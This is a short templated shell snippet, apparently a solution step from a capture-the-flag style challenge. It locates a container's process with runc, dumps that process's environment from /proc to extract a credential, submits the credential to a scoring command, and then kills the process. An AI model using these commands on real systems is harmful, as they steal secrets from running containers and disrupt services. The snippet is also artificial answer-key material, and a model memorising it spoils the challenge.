# earns: read-environ, credential (9 of 10)
# Read and answered, and then the process was ended.
pid=$(runc list | awk '$4 ~ "/{{ container }}$" {print $2}')
strings /proc/$pid/environ
cksl answer credential "{{ credential }}"
kill -9 $pid
